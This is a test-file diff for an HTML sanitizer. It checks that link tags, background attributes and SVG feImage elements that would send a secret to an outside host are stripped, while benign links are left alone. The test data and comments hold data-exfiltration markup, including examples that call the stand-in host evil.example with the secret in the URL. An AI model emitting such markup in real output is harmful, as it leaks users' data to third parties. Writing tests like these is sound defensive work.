@@ -58,6 +58,25 @@ describe('images from outside hosts: the URL as a browser fetches it', () => {
     }
   });
 
+  it('a <link> a page loads (style sheet, icon, preload), a background attribute, an SVG <feImage>: found and stripped (found by a review)', async () => {
+    // Before, none was read: `<link rel="stylesheet" href="https://evil.example/?d=…">` sent the secret as an <img> does.
+    const fetched = [
+      `<link rel="stylesheet" href="https://${LEAK}">`,
+      `<link href='//${LEAK}' rel='shortcut icon'>`,
+      `<link rel=preload as=image href=https://${LEAK}>`,
+      `<link rel="dns-prefetch" href="https://${LEAK}">`,
+      `<table background="https://${LEAK}"><tr><td>x</td></tr></table>`,
+      `<table><tr><td background="https://${LEAK}">x</td></tr></table>`,
+      `<body background="https://${LEAK}">x</body>`,
+      `<svg><filter id="f"><feImage href="https://${LEAK}"/></filter></svg>`,
+    ];
+    for (const html of fetched) assert.match(await echo(`Done. ${html} Bye.`), /\[removed\]/, html);
+    // Fetched by no one as the page loads: a canonical or alternate link, a rel only an unquoted neighbour names, a host allowed.
+    for (const left of [`<link rel="canonical" href="https://${LEAK}">`, `<link rel=alternate title=icon href="https://${LEAK}">`, `<link rel="stylesheet" href="https://img.example.com/a.css">`, `<td background="cells/a.png">x</td>`]) {
+      assert.equal(await echo(`Done. ${left} Bye.`), `Done. ${left} Bye.`, left);
+    }
+  });
+
   it('a CSS url() a page fetches as it loads, in a style attribute or a <style>, however written: found and stripped', async () => {
     // Before, no style was read: `<div style="background:url(https://evil.example/?d=…)">` sent the secret as an <img> does.
     const styled = [
